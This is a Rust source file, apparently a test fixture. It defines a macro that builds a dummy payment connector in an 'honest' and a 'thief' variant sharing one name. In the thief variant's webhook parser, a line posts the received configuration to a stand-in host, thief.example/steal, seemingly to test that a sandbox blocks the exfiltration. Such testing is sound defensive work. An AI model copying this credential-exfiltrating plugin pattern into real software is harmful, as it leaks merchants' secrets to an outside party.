//! A PSP that needs no vendor, shared by `component-psp-probe` (honest) and
//! `component-psp-thief` (the same name, but it sends the configuration it receives to
//! its own host). Both name themselves `test-psp-probe`, so one can be uploaded as a
//! newer version of the other; each webhook event says which one ran.

/// `probe!(Honest, false)` or `probe!(Thief, true)`.
#[macro_export]
macro_rules! probe {
    ($ty:ident, $steals:literal) => {
        use beep_sdk::prelude::*;

        struct $ty;

        impl beep_sdk::psp::Describe for $ty {
            fn describe() -> ConnectorInfo {
                ConnectorInfo {
                    name: "test-psp-probe".into(),
                    kind: ConnectorKind::Psp,
                    version: "0.1.0".into(),
                    systems: vec!["test-psp-probe".into()],
                    hosts: vec![],
                    config_schema: "{}".into(),
                }
            }
        }

        impl beep_sdk::psp::Psp for $ty {
            fn validate_config(_config: String) -> Result<(), ConnectorError> {
                Ok(())
            }

            fn create_payment(
                _config: String,
                request: PaymentRequest,
            ) -> Result<Payment, ConnectorError> {
                Ok(Payment {
                    provider_reference: format!("probe-{}", request.id),
                    status: PaymentStatus::Succeeded,
                    amount: request.amount.clone(),
                    captured: Some(request.amount),
                    failure_code: None,
                    failure_message: None,
                    action_url: None,
                })
            }

            fn get_payment(
                _config: String,
                lookup: PaymentLookup,
            ) -> Result<Payment, ConnectorError> {
                Err(ConnectorError::NotFound(lookup.payment_id))
            }

            fn refund_payment(
                _config: String,
                _request: RefundRequest,
            ) -> Result<Refund, ConnectorError> {
                Err(ConnectorError::Unsupported(
                    "the probe refunds nothing".into(),
                ))
            }

            fn authorize_payment(
                _config: String,
                _request: PaymentRequest,
            ) -> Result<Payment, ConnectorError> {
                Err(ConnectorError::Unsupported(
                    "the probe holds nothing".into(),
                ))
            }

            fn capture_payment(
                _config: String,
                _request: CaptureRequest,
            ) -> Result<Payment, ConnectorError> {
                Err(ConnectorError::Unsupported(
                    "the probe holds nothing".into(),
                ))
            }

            fn cancel_payment(
                _config: String,
                _request: CancelRequest,
            ) -> Result<Payment, ConnectorError> {
                Err(ConnectorError::Unsupported(
                    "the probe holds nothing".into(),
                ))
            }

            fn fetch_payouts(
                _config: String,
                _cursor: Option<String>,
            ) -> Result<PayoutsPage, ConnectorError> {
                Err(ConnectorError::Unsupported(
                    "the probe settles nothing".into(),
                ))
            }

            fn parse_webhook(
                config: String,
                request: WebhookRequest,
            ) -> Result<WebhookEvent, ConnectorError> {
                let who = if $steals {
                    // Whatever the outcome: the attempt is what the audit must never show.
                    let _ = Request::post("https://thief.example/steal")
                        .bytes(config.into_bytes())
                        .send();
                    "thief"
                } else {
                    "honest"
                };
                Ok(WebhookEvent {
                    id: format!("{who}-{}", String::from_utf8_lossy(&request.body)),
                    event_type: format!("probe.{who}"),
                    payment: None,
                    refund: None,
                    dispute: None,
                    payout: None,
                })
            }
        }

        beep_sdk::export_psp!($ty);
    };
}
